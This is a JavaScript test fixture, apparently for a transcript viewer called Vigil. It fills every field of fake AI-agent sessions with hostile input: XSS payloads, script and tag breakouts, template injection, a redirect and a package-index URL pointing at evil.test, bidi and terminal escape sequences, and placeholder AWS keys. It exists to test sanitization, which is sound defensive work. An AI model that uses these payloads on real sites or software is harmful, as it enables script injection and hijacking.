// A transcript in which every field tries to become something else than text.

import { mkdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';

import { OTHERS, converse } from './others.js';
import { awsKey } from './secrets.js';
import { Session } from './session.js';
import { agent, telemetry } from './told.js';

/** Runs when anything of the content does. */
const RUN = 'window.vigilTestRan=1;alert(1)';

/** Text that is hostile in every way we know, and begins with a name to find it by. @param {string} name */
export const hostile = (name) =>
  [
    `hostile-${name}`,
    `<img src=x onerror="${RUN}">`,
    `<svg/onload="${RUN}">`,
    `</script><script>${RUN}</script>`,
    `</style></title></textarea></template>-->]]>`,
    `<a href="javascript:${RUN}">javascript:${RUN}</a>`,
    `[link](javascript:${RUN})`,
    `<iframe srcdoc="<script>parent.vigilTestRan=1</script>">`,
    '${vigilTestRan=1}{{constructor.constructor("vigilTestRan=1")()}}`',
    '"\'><base href=//evil.test/><meta http-equiv=refresh content=0;url=//evil.test>',
    'gpj.\u202Eexe.\u202C \u2066isolated\u2069 \u200Bzero\uFEFFwidth \u0085\u2028\u2029',
    'nul \u0000 bell \u0007 \u001b[31mred\u001b[0m \u001b]8;;http://evil.test\u0007osc\u001b]8;;\u0007 \u009b31m',
    '[[vigil:aws_access_key:<b>:0011223344556677]] [[vigil:',
    'lone surrogate \ud800 emoji \u{1F469}\u200d\u{1F4BB} combining Z\u0351\u036b\u0343',
    'constructor __proto__ hasOwnProperty',
  ].join(' ');

/** The same in little, for fields that are cut. @param {string} name */
export const brief = (name) => `hostile-${name}<img src=x onerror=alert(1)>\u202Ex`;

/** A word without a place to break it. @param {string} name */
export const endless = (name) => `hostile-${name}${'W'.repeat(1 << 20)}`;

/** Writes the transcripts. @param {string} projects */
export function writeHostile(projects) {
  const session = new Session(1, {
    id: brief('id'),
    cwd: `/home/dev/${brief('folder')}`,
    branch: brief('branch'),
    version: brief('version'),
    model: brief('model'),
  });
  session.title(hostile('title'));
  session.prompt(hostile('prompt')).thinks(hostile('thinking')).says(hostile('answer'));
  session.tool(brief('tool'), { [brief('key')]: hostile('input') }, hostile('result'));
  session.tool('Bash', { command: hostile('command'), description: hostile('about') }, hostile('output'));
  session.tool('Bash', { command: `npm install '${brief('package')}' && pip install '${brief('name')}==${brief('release')}' --index-url 'http://evil.test/${brief('index')}'` }, 'ok');
  session.tool('Read', { file_path: `/home/dev/${brief('file')}` }, hostile('content'));
  session.tool('Edit', { file_path: '/a', old_string: hostile('old'), new_string: hostile('new') }, 'ok');
  session.tool('Write', { file_path: `/home/dev/${brief('written')}`, content: hostile('body') }, 'ok');
  session.fails('Bash', { command: 'false' }, hostile('failure'));
  session.denied('Bash', { command: hostile('denied') });
  session.tool('Bash', { command: `echo ${awsKey(50)} ${hostile('beside')}` }, `${hostile('around')} ${awsKey(51)}`);
  session.delegates('a1', brief('agent'), hostile('task'), (sub) => sub.says(hostile('sub')));
  session.compacts(hostile('summary'));
  session.prompt(endless('wide')).says(endless('long'));
  session.tool('Bash', { command: endless('argv') }, `${endless('stdout')} ${awsKey(52)}`);
  session.says('hostile-end').write(projects);

  // Without an answer and a name, and called like what every object has.
  new Session(2, { cwd: '/', branch: '__proto__', model: 'constructor' })
    .prompt(hostile('alone'))
    .tool('toString', {}, awsKey(53))
    .write(projects);
}

/** The same in every other client's words. @param {string} user its home */
export function writeHostileOthers(user) {
  for (const [n, client] of OTHERS.entries()) {
    const facts = {
      id: brief('id'), cwd: `/home/dev/${brief('project')}`, branch: brief('branch'), version: brief('version'),
      model: brief('model'), tool: brief('tool'), title: hostile(client.replaceAll('-', '')),
    };
    converse(user, client, 20 + n, facts, [
      { prompt: hostile('asked'), answer: hostile('answered'), thinking: hostile('thought'), command: hostile('command'), output: `${hostile('output')} ${awsKey(60 + n)}` },
      { prompt: endless('wide'), answer: endless('long'), command: endless('argv'), output: endless('stdout'), failed: true },
    ]);
  }
}

/** What the kernel tells, each name of it. @param {import('./home.js').Home} home */
export const machineHostile = (home) => home.machine(8, whole('kernel').replaceAll('\u0000', ''));

/** A session that its client deletes; gives what deletes it. @param {string} projects */
export function writeDeleted(projects) {
  const session = new Session(3, { cwd: '/srv/gone' }).title(hostile('gone')).prompt(hostile('forgotten')).says('Gone.').write(projects);
  return () => rmSync(String(session.file));
}

/** Without the half of a letter, which not every way can take. @param {string} name */
const whole = (name) => hostile(name).replaceAll('\ud800', '');

/** What a running Vigil is told beside them; gives what ends it. @param {import('./home.js').Home} home */
export async function tellHostile(home) {
  const told = { 'session.id': brief('told') };
  await telemetry(home, [
    { ...told, 'event.name': 'api_request', request_id: brief('request'), model: brief('telemetry'), input_tokens: 10, output_tokens: 4 },
    { ...told, 'event.name': 'api_error', error: whole('error'), model: brief('telemetry'), status_code: '500' },
    { ...told, 'event.name': 'tool_result', tool_name: brief('tool'), success: 'false', error: whole('error'), duration_ms: 10 },
    { ...told, 'event.name': 'user_prompt', prompt: whole('prompt'), prompt_length: 4 },
    { ...told, 'event.name': brief('name') },
  ]);
  const folder = join(home.root, brief('workdir'));
  mkdirSync(folder);
  return agent(home, folder, brief('argument'), whole('process').replaceAll('\u0000', ''));
}
